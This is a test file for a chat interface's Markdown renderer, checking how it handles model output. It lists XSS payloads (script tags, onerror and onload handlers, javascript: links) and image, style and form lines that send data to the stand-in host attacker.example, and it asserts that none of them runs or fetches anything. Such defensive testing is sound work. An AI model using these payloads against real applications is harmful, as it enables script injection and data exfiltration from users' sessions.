import { expect } from '@open-wc/testing';
import DOMPurify from 'dompurify';
import { renderMarkdown } from '../../src/chat/markdown.js';

const PAYLOADS = [
  '<img src=x onerror="window.__xss = 1">',
  '<script>window.__xss = 2</script>',
  '[click](javascript:window.__xss=3)',
  '<a href="javascript:window.__xss=4">x</a>',
  '<svg onload="window.__xss=5"></svg>',
  '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>',
  '![leak](https://attacker.example/collect?visit=secret)',
  '<div style="background:url(https://attacker.example/p)">styled</div>',
  '<form action="https://attacker.example"><button>go</button></form>',
  '<details open ontoggle="window.__xss=7">x</details>',
];

describe('Markdown from the model', () => {
  it('renders Markdown: emphasis, lists, code, tables, links', () => {
    const html = renderMarkdown('**Dry cough**, no fever.\n\n- fluids\n- rest\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[guide](https://example.org/guide)');
    const div = document.createElement('div');
    div.innerHTML = html;
    expect(div.querySelector('strong')!.textContent).to.equal('Dry cough');
    expect(div.querySelectorAll('li')).to.have.length(2);
    expect(div.querySelector('code')).to.exist;
    expect(div.querySelector('table')).to.exist;
    const link = div.querySelector('a')!;
    expect(link.getAttribute('rel')).to.equal('noopener noreferrer nofollow');
    expect(link.getAttribute('target')).to.equal('_blank');
    expect(link.textContent).to.equal('guide (https://example.org/guide)');
  });

  it('shows every link\'s whole address, query string included', () => {
    const div = document.createElement('div');
    div.innerHTML = renderMarkdown('[NICE guideline](https://nice.example/cg?q=Jane+Doe+38.4) and <https://plain.example/>');
    const [named, plain] = div.querySelectorAll('a');
    expect(named.textContent).to.equal('NICE guideline (https://nice.example/cg?q=Jane+Doe+38.4)');
    // A link whose text is its address is not repeated.
    expect(plain.textContent).to.equal('https://plain.example/');
  });

  it('in confirm mode, leaves links without an href and keeps the address in data-url', () => {
    const div = document.createElement('div');
    div.innerHTML = renderMarkdown('[go](https://a.example/x?y=1)', { links: 'confirm' });
    const link = div.querySelector('a')!;
    expect(link.hasAttribute('href')).to.equal(false);
    expect(link.dataset.url).to.equal('https://a.example/x?y=1');
    // The next call in the default mode is not affected.
    div.innerHTML = renderMarkdown('[go](https://a.example/)');
    expect(div.querySelector('a')!.getAttribute('href')).to.equal('https://a.example/');
  });

  it("leaves the page's own DOMPurify as it was: no hooks, no settings", () => {
    const link = '<a href="https://example.org/" title="t">x</a><img src="/logo.png">';
    const untouched = DOMPurify.sanitize(link);
    renderMarkdown('[guide](https://example.org/guide) ![x](https://example.org/x.png)');
    // The host app's sanitiser still keeps images and adds nothing to links.
    expect(DOMPurify.sanitize(link)).to.equal(untouched);
    expect(untouched).to.include('<img').and.not.include('noopener').and.not.include('target');
    // And a hook the app adds to its own DOMPurify does not reach the chat's.
    DOMPurify.addHook('afterSanitizeAttributes', (node) => node.setAttribute('data-host', 'yes'));
    try {
      expect(renderMarkdown('**x** [a](https://a.example/)')).to.not.include('data-host');
      expect(DOMPurify.sanitize('<b>x</b>')).to.include('data-host');
    } finally {
      DOMPurify.removeHooks('afterSanitizeAttributes');
    }
  });

  it('never lets markup or script in model output run or fetch anything', async () => {
    const host = document.createElement('div');
    document.body.append(host);
    const before = performance.getEntriesByType('resource').length;
    for (const payload of PAYLOADS) host.insertAdjacentHTML('beforeend', renderMarkdown(payload));
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect((window as unknown as { __xss?: number }).__xss).to.equal(undefined);
    expect(host.querySelector('img, script, iframe, svg, form, [style], [onerror], [onload], [ontoggle]')).to.equal(null);
    expect([...host.querySelectorAll('a')].every((a) => !a.hasAttribute('href') || /^https?:/.test(a.getAttribute('href')!))).to.equal(true);
    // Nothing was fetched because of the output (an image or a styled background would have been).
    expect(performance.getEntriesByType('resource').slice(before).map((e) => e.name)).to.deep.equal([]);
    host.remove();
  });
});
